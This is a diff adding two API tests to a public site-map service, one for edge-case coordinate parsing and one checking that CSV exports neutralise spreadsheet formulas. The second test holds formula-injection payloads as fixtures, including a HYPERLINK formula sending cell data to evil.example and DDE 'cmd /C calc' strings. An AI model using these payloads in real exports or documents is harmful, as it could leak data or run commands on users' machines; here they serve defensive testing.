@@ -370,6 +370,34 @@ class TestPublicMap:
         response = await client.get("/v1/public/packs/nearest", params={"latitude": 95, "longitude": 0.5})
         assert response.status_code == 422
 
+    async def test_nearest_takes_any_finite_point(
+        self, client: httpx.AsyncClient, issuer: TestIssuer, world: World
+    ) -> None:
+        """Issue 13: a subnormal coordinate (in the query, or a site's) was PostgreSQL's float underflow, a 500
+        without a token. Any finite point in range is served; the point is rounded to 1e-9 degrees."""
+        body = site_body("Greenwich meridian stop", latitude=51.3838, longitude=1e-300)
+        site = (await client.post("/v1/sites", json=body, headers=issuer.headers(**STAFF))).json()
+        deployed = await client.post(
+            "/v1/movements/deployments",
+            json={"site_id": site["id"], "quantity": 1},
+            headers=issuer.headers(**CSP_MEDWAY),
+        )
+        assert deployed.status_code == 201
+        for latitude, longitude in (("51.38", "0"), ("5e-324", "0.52"), ("51.38", "-5e-324"), ("-0.0", "1e-310")):
+            response = await client.get(
+                "/v1/public/packs/nearest", params={"latitude": latitude, "longitude": longitude}
+            )
+            assert response.status_code == 200, (latitude, longitude, response.text)
+            assert response.json()["latitude"] == round(float(latitude), 9)
+        near_meridian = await client.get("/v1/public/packs/nearest", params={"latitude": 51.3838, "longitude": 0})
+        assert near_meridian.json()["packs"][0]["site"]["name"] == "Greenwich meridian stop"
+        assert near_meridian.json()["packs"][0]["distance_m"] == 0
+        for latitude in ("nan", "inf", "-inf", "1e308", "90.000000001", "9" * 5000):
+            refused = await client.get("/v1/public/packs/nearest", params={"latitude": latitude, "longitude": 0.5})
+            assert refused.status_code == 422, latitude
+            assert refused.json()["type"].endswith("/validation-error")
+            assert "latitude" in refused.json()["detail"]
+
     async def test_open_data_csv(self, client: httpx.AsyncClient, world: World) -> None:
         response = await client.get("/v1/public/sites.csv")
         assert response.status_code == 200
@@ -383,6 +411,32 @@ class TestPublicMap:
         assert "Contact Person Hidden" not in response.text
         assert "hidden.contact" not in response.text
         assert "Staff-only depot" not in response.text
+
+    async def test_open_data_csv_neutralises_formulas(self, client: httpx.AsyncClient, issuer: TestIssuer) -> None:
+        """Issue 13: a site's name, address or hours that a spreadsheet would run as a formula is written with a
+        leading apostrophe; the coordinates and counts stay numbers (a negative longitude is not prefixed)."""
+        staff = issuer.headers(**STAFF)
+        hostile = {
+            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Map")', "=1+1 Chatham", "=cmd|' /C calc'!A0"),
+            "+": ("+Chatham depot", "+44 High Street", "+1-1"),
+            "-": ("-Chatham depot", "-2+3 High Street", "-1+1"),
+            "@": ("@SUM(1+1) depot", "@Chatham High Street", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        }
+        for name, address, hours in hostile.values():
+            body = site_body(name, address=address, access_hours=hours, longitude=-0.25)
+            assert (await client.post("/v1/sites", json=body, headers=staff)).status_code == 201
+        response = await client.get("/v1/public/sites.csv")
+        assert response.status_code == 200
+        rows = {r["name"]: r for r in csv.DictReader(io.StringIO(response.text))}
+        for name, address, hours in hostile.values():
+            row = rows["'" + name]
+            assert (row["address"], row["access_hours"]) == ("'" + address, "'" + hours)
+            assert (row["longitude"], row["latitude"]) == ("-0.250000", "51.383800")
+            assert row["ready_packs"] == "0"
+        text_columns = ("site_id", "name", "address", "postcode", "district", "access_hours", "cabinet_type")
+        for row in rows.values():
+            for column in text_columns:
+                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
 
 
 async def test_openapi_every_operation_documented(client: httpx.AsyncClient) -> None:
